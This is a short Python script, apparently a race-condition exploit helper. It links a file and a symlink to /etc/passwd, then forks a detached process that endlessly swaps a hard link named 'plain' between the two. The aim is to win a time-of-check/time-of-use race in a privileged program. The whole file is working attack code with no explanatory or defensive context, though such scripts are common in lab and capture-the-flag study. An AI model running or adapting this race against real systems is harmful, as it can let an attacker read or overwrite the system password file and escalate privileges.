import os

with open("mine", "w") as file:
    file.write("ours")
os.symlink("/etc/passwd", "theirs")
os.link("mine", "plain")
if os.fork() == 0:
    os.setsid()
    while True:
        for name in ("theirs", "mine"):
            os.link(name, "next", follow_symlinks=False)
            os.replace("next", "plain")
